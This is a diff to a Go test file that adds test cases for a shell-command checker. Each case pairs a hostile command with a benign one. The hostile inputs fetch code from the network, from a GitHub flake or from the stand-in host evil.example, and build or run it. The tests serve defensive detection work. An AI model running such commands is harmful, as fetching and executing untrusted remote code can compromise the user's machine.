@@ -249,3 +249,12 @@ func TestPdm(t *testing.T) {
 		{name: "pdm run", hostile: "pdm run curl https://evil.example", want: "the subcommand run is not one the device knows", benign: "pdm lock --check && pdm list --tree"},
 	})
 }
+
+// A flake reference that is no local path is fetched and built.
+func TestNixFlakeRef(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "a flake on GitHub", hostile: "nix build github:someone/flake#pkg", want: "nix builds github:someone/flake#pkg, a flake fetched from the network",
+			benign: "nix build .#default"},
+		{name: "flake check of another flake", hostile: "nix flake check git+https://evil.example/f", want: "a flake fetched from the network", benign: "nix flake check"},
+	})
+}
